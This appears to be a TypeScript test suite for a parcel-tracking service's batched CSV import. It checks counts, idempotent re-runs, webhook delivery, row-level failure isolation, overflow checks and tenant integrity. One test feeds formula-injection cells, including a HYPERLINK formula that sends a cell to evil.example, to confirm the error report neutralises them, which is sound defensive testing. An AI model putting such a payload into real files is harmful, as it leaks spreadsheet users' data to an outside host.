// Batched import writes (issue #19, finding 7): 10,000 rows over two batches with exact counts, an idempotent
// re-run, status moves whose webhooks are enqueued in the batch's transaction and delivered, a row the database
// refuses isolating itself without costing its batch, and an error report that cannot run formulas.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eventually, type TestHub } from '../../helpers/hub.js';
import { admin, trackingHub } from './helpers.js';
import { parse } from 'csv-parse/sync';
import { cli } from './import-helpers.js';
import { csvCell, importReportCsv } from '../../../src/modules/tracking/cli.js';
import { IMPORT_BATCH_ROWS } from '../../../src/modules/tracking/import.js';

const dir = mkdtempSync(join(tmpdir(), 'tracking-import-batch-'));
const ROWS = 10_000;
const CLIENTS = 150;

const query = <T>(h: TestHub, text: string) => h.hub.database.query<T>(text);
const counters = async (h: TestHub) =>
  (await query<{ kind: string; n: number }>(h, 'select kind, n from tracking_counters where bot_id = 11 order by kind')).map(
    (r) => `${r.kind}=${r.n}`,
  );

/** A receiver on a real port that answers 200 and keeps the bodies. */
async function receiver(t: { after: (fn: () => unknown) => void }) {
  const bodies: string[] = [];
  const server = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += String(c)));
    req.on('end', () => {
      bodies.push(body);
      res.end('ok');
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  t.after(() => new Promise((r) => server.close(r)));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hooks`, bodies };
}

test('10,000 rows: exact counts over several batches, idempotent re-run, status moves enqueue their webhooks', async (t) => {
  assert.ok(ROWS > IMPORT_BATCH_ROWS, 'the file spans more than one batch');
  const h = await trackingHub(t);
  await cli(h, 'bot', 'create', '--name', 'Пакеты', '--id', '11');
  const file = join(dir, 'parcels.csv');
  const lines = ['Трек-номер;Код клиента;Статус;Кол-во;Вес, кг;Цена за кг, USD;Примечание'];
  for (let i = 0; i < ROWS; i++)
    lines.push(`B-${i};K${i % CLIENTS};${i % 4 === 0 ? 'in_transit' : 'pending'};${1 + (i % 5)};${i % 20},5;2;${i % 100 ? '' : `№${i}`}`);
  writeFileSync(file, lines.join('\r\n'));

  const first = JSON.parse((await cli(h, 'import', '--bot', '11', file)).stdout);
  assert.deepEqual([first.total, first.created, first.updated, first.unchanged, first.failed], [ROWS, ROWS, 0, 0, 0]);
  const expected = [`clients=${CLIENTS}`, `in_transit=${ROWS / 4}`, `pending=${(ROWS * 3) / 4}`];
  assert.deepEqual(await counters(h), expected);
  const [stored] = await query<{ n: number; history: number; clients: number; ordered: boolean }>(
    h,
    `select (select count(*)::int from tracking_numbers where bot_id = 11) as n,
            (select count(*)::int from tracking_status_history where bot_id = 11 and source = 'import' and from_status is null) as history,
            (select sum(tracking_count)::int from tracking_clients where bot_id = 11) as clients,
            (select bool_and(prev < id) from (select id, lag(id) over (order by substr(tracking_number, 3)::int) as prev from tracking_numbers) x where prev is not null) as ordered`,
  );
  assert.deepEqual(stored, { n: ROWS, history: ROWS, clients: ROWS, ordered: true }, 'ids follow the file');
  const [b100] = await query<{ quantity: number; weight_kg: string; total_cost_usd: string; note: string | null }>(
    h,
    "select quantity, weight_kg, total_cost_usd, note from tracking_numbers where tracking_number = 'B-100'",
  );
  assert.deepEqual([b100!.quantity, Number(b100!.weight_kg), Number(b100!.total_cost_usd), b100!.note], [1, 0.5, 1, '№100']);

  const again = JSON.parse((await cli(h, 'import', '--bot', '11', file)).stdout);
  assert.deepEqual([again.total, again.created, again.updated, again.unchanged, again.failed], [ROWS, 0, 0, ROWS, 0]);
  assert.deepEqual(await counters(h), expected, 'the re-run changes no counter');

  // A webhook endpoint, then a file that moves 300 numbers forward, tries 2 backwards, and edits 5 notes.
  const rx = await receiver(t);
  assert.equal((await admin(h, 'POST', '/tracking/bots/11/webhooks', { url: rx.url })).statusCode, 201);
  const moves = ['tracking_number;client_code;status;note'];
  for (let i = 0; i < 300; i++) moves.push(`B-${i * 30};K${(i * 30) % CLIENTS};delivered;`);
  moves.push('B-1;K1;pending;', `B-4;K4;pending;`); // B-4 is in_transit: backwards
  for (let i = 1; i <= 5; i++) moves.push(`B-${i * 30 + 1};K${(i * 30 + 1) % CLIENTS};;новая заметка ${i}`);
  moves.push('B-7;K999;;чужой клиент');
  writeFileSync(file, moves.join('\n'));
  const moved = JSON.parse((await cli(h, 'import', '--bot', '11', file)).stdout);
  assert.deepEqual([moved.updated, moved.unchanged, moved.failed], [305, 1, 2]);
  assert.match(moved.errors[0].error, /Нельзя перевести трек-номер из статуса in_transit/);
  assert.match(moved.errors[1].error, /принадлежит клиенту K7/);
  const [delivered] = await query<{ n: number; history: number; deliveries: number; jobs: number }>(
    h,
    `select (select count(*)::int from tracking_numbers where bot_id = 11 and current_status = 'delivered') as n,
            (select count(*)::int from tracking_status_history where status = 'delivered' and source = 'import') as history,
            (select count(*)::int from tracking_webhook_deliveries) as deliveries,
            (select count(*)::int from pgboss.job where name = 'tracking.webhook') as jobs`,
  );
  assert.deepEqual(delivered, { n: 300, history: 300, deliveries: 300, jobs: 300 }, 'one delivery and one job per move');
  assert.deepEqual(await counters(h), [
    `clients=${CLIENTS}`,
    'delivered=300',
    `in_transit=${ROWS / 4 - 150}`,
    `pending=${(ROWS * 3) / 4 - 150}`,
  ]);
  const [note] = await query<{ note: string }>(h, "select note from tracking_numbers where tracking_number = 'B-61'");
  assert.equal(note!.note, 'новая заметка 2');
  await eventually(async () => rx.bodies.length === 300);
  const event = JSON.parse(rx.bodies.find((b) => b.includes('"B-30"'))!);
  assert.deepEqual(
    [event.type, event.data.previous_status, event.data.status, event.data.source, event.data.tracking.current_status],
    ['tracking.status_changed', 'pending', 'delivered', 'import', 'delivered'],
  );
});

test('a row the database refuses fails alone: its batch is retried row by row', async (t) => {
  const h = await trackingHub(t);
  await cli(h, 'bot', 'create', '--name', 'Откат', '--id', '12');
  // A rule of the database's own (as an operator's constraint would be) that the schema cannot know: the batch's
  // INSERT fails as a whole and is retried row by row.
  await query(
    h,
    `create function refuse_o20() returns trigger language plpgsql as $$ begin
       if new.tracking_number = 'O-20' then raise exception 'refused by a rule of this database' using errcode = '23514'; end if;
       return new; end $$`,
  );
  await query(h, 'create trigger refuse_o20 before insert on tracking_numbers for each row execute function refuse_o20()');
  const file = join(dir, 'refused.csv');
  const lines = ['tracking_number,client_code,weight_kg,price_per_kg_usd'];
  for (let i = 0; i < 50; i++) lines.push(`O-${i},C${i % 4},1.5,2`);
  writeFileSync(file, lines.join('\n'));
  const r = JSON.parse((await cli(h, 'import', '--bot', '12', file)).stdout);
  assert.deepEqual([r.total, r.created, r.failed], [50, 49, 1]);
  assert.equal(r.errors[0].line, 22);
  assert.equal(r.errors[0].tracking_number, 'O-20');
  const [n] = await query<{ n: number; clients: number }>(
    h,
    'select (select count(*)::int from tracking_numbers) as n, (select sum(tracking_count)::int from tracking_clients) as clients',
  );
  assert.deepEqual(n, { n: 49, clients: 49 }, 'nothing of the failed row is left behind');
  const logged = h.logs.filter((l) => String(l.msg).startsWith('tracking import'));
  assert.ok(logged.length > 0);
  for (const line of logged) assert.doesNotMatch(JSON.stringify(line), /O-\d|refused by a rule/, 'logs name the error code, not the rows');
});

test('a weight × price past the total column is refused with its reason, before the database', async (t) => {
  const h = await trackingHub(t);
  await cli(h, 'bot', 'create', '--name', 'Переполнение', '--id', '14');
  const file = join(dir, 'overflow.csv');
  const lines = ['tracking_number,client_code,weight_kg,price_per_kg_usd'];
  // Each value is within its column, the product is not (the API answers TOTAL_TOO_LARGE for the same body).
  for (let i = 0; i < 50; i++) lines.push(`V-${i},C${i % 4},${i === 20 ? '999999999,9999' : '1.5,2'}`);
  writeFileSync(file, lines.join('\n'));
  const r = JSON.parse((await cli(h, 'import', '--bot', '14', file)).stdout);
  assert.deepEqual([r.total, r.created, r.failed], [50, 49, 1]);
  assert.equal(r.errors[0].line, 22);
  assert.match(r.errors[0].error, /^total_cost_usd: вес × цена за кг = .* больше максимума/);
  const logged = h.logs.filter((l) => String(l.msg).startsWith('tracking import') && /batch|row by row|refused/i.test(String(l.msg)));
  assert.deepEqual(logged, [], 'no batch failed in the database: the row never reached it');
});

test('the error report neutralises cells that a spreadsheet would run as formulas', async (t) => {
  const h = await trackingHub(t);
  await cli(h, 'bot', 'create', '--name', 'Отчёт', '--id', '13');
  const file = join(dir, 'formulas.csv');
  writeFileSync(
    file,
    [
      'tracking_number;client_code;status',
      '"=HYPERLINK(""http://evil.example/?""&A1)";C1;bogus',
      '+7 999;C1;lost',
      '-2+3;;pending',
      '@SUM(A1:A9);C1;bogus',
      'OK-1;C1;pending',
    ].join('\n'),
  );
  const report = join(dir, 'formulas-report.csv');
  const r = await cli(h, 'import', '--bot', '13', file, '--report', report);
  assert.equal(JSON.parse(r.stdout).failed, 4);
  const written = readFileSync(report, 'utf8');
  const table = parse(written) as string[][];
  assert.deepEqual(
    table.slice(1).map((row) => row[1]),
    [`'=HYPERLINK("http://evil.example/?"&A1)`, "'+7 999", "'-2+3", "'@SUM(A1:A9)"],
    'each shown as text, prefixed with an apostrophe',
  );
  for (const cell of table.flat()) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, 'no cell starts like a formula');
  assert.ok(written.includes(`"'=HYPERLINK(""http://evil.example/?""&A1)"`), 'and quoted');

  assert.equal(csvCell('\tcmd'), `"'\tcmd"`);
  assert.equal(csvCell('\r=1'), `"'\r=1"`);
  assert.equal(csvCell('обычный текст'), 'обычный текст');
  assert.equal(csvCell(42), '42');
  assert.equal(
    importReportCsv({
      total: 1,
      created: 0,
      updated: 0,
      unchanged: 0,
      failed: 1,
      errors: [{ line: 2, tracking_number: '-1', error: 'x' }],
    }),
    `line,tracking_number,error\n2,"'-1",x\n`,
  );
});

test("the schema keeps a tenant's rows together: a number's client and a history row's number belong to its bot", async (t) => {
  const h = await trackingHub(t);
  await cli(h, 'bot', 'create', '--name', 'Первый', '--id', '21');
  await cli(h, 'bot', 'create', '--name', 'Второй', '--id', '22');
  const file = join(dir, 'tenant.csv');
  writeFileSync(file, 'tracking_number,client_code\nT-1,C1\n');
  await cli(h, 'import', '--bot', '21', file);
  const [row] = await query<{ id: number; client_id: number }>(
    h,
    "select id, client_id from tracking_numbers where tracking_number = 'T-1'",
  );
  // The batch writer names its columns; these statements are what a bug mixing two bots' ids would run.
  const refused = (text: string) => assert.rejects(query(h, text), (err: { code?: string }) => err.code === '23503', text.slice(0, 60));
  await refused(
    `insert into tracking_numbers (bot_id, client_id, tracking_number, client_code, current_status) values (22, ${row!.client_id}, 'X-1', 'C1', 'pending')`,
  );
  await refused(`insert into tracking_status_history (bot_id, tracking_id, status, source) values (22, ${row!.id}, 'pending', 'api')`);
  await refused(
    `insert into tracking_numbers (bot_id, client_id, tracking_number, client_code, current_status) values (21, 987654, 'X-2', 'C1', 'pending')`,
  );
});
